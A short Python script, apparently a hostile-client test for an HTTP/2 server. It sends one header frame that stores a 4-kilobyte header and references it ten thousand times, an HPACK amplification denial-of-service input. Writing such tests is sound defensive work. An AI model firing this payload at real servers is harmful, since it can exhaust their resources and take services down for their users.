"""A bot that names a header of four kilobytes ten thousand times."""

from hostile.client import answer, play_on, second_turn
from hostile.frames import END_HEADERS, HEADERS, frame, request
from hostile.own_connection import begin, send

begin()
turn = second_turn()
long = b"\x40\1x\x7f\xa1\x1e" + b"y" * 4000
send(frame(HEADERS, END_HEADERS, 3, request() + long + b"\xbe" * 10_000))
answer(turn)
play_on()
